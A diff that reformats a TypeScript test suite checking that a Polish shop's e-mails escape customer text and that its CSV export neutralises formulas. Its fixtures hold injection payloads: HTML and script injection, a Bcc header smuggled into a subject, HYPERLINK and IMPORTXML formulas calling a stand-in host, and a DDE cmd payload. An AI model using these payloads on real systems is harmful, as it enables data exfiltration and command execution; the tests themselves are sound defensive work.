@@ -41,7 +41,7 @@ async function hostileOrder(userId: string | null = null, email = uniqueEmail())
       lastName: `Nowak ${IMG}`,
       street: `Długa ${SCRIPT}`,
       city: `Kraków ${IMG}`,
-      houseNumber: "5\"><b>",
+      houseNumber: '5"><b>',
       notes: `Uwaga ${SCRIPT} ${IMG}`,
       wantsInvoice: true,
       companyName: `Firma ${SCRIPT}`,
@@ -99,7 +99,14 @@ describe("e-mails escape customer text in every template", () => {
     const { id } = await saveEnquiry(
       db,
       kind,
-      { firstName: `Jan ${SCRIPT}`, lastName: IMG, email: "jan@example.pl", phone: "600700800", subject: `Temat ${SCRIPT}\r\nBcc: zly@example.pl`, message: `Treść ${SCRIPT} ${IMG}` },
+      {
+        firstName: `Jan ${SCRIPT}`,
+        lastName: IMG,
+        email: "jan@example.pl",
+        phone: "600700800",
+        subject: `Temat ${SCRIPT}\r\nBcc: zly@example.pl`,
+        message: `Treść ${SCRIPT} ${IMG}`,
+      },
       kind === "complaint" ? { orderNumber: "ZAM-2026-000001", complaintReason: "inne" } : kind === "specialist_pleat" ? { selectedModel: "1" } : undefined,
     );
     const email = recordingEmail();
@@ -153,7 +160,7 @@ describe("the CSV export neutralises formulas in every free-text column", () => 
   it("no text cell of a hostile order starts with =, +, -, @, tab or carriage return", async () => {
     const order = await hostileOrder();
     const formulas = {
-      first_name: "=HYPERLINK(\"http://zly.example\",\"x\")",
+      first_name: '=HYPERLINK("http://zly.example","x")',
       last_name: "+SUM(A1:A2)",
       email: "=1+1@example.pl",
       phone: "+48600700800",
@@ -162,13 +169,15 @@ describe("the CSV export neutralises formulas in every free-text column", () => 
       apartment_number: "=cmd|' /C calc'!A0",
       postal_code: "\t=1",
       city: "\r=1",
-      company_name: "=IMPORTXML(\"http://zly.example\")",
+      company_name: '=IMPORTXML("http://zly.example")',
       company_nip: "+5260001246",
       notes: "-IF(1,1)",
       promo_code: "=RABAT",
     };
     const columns = Object.keys(formulas);
-    await env.DB.prepare(`update orders set ${columns.map((c) => `${c} = ?`).join(", ")} where number = ?`).bind(...Object.values(formulas), order.number).run();
+    await env.DB.prepare(`update orders set ${columns.map((c) => `${c} = ?`).join(", ")} where number = ?`)
+      .bind(...Object.values(formulas), order.number)
+      .run();
     await env.DB.prepare("update order_items set profile_code = '=P', fabric_code = '+F' where order_id = (select id from orders where number = ?)").bind(order.number).run();
 
     const jobId = await requestOrdersExport(env, testActor);
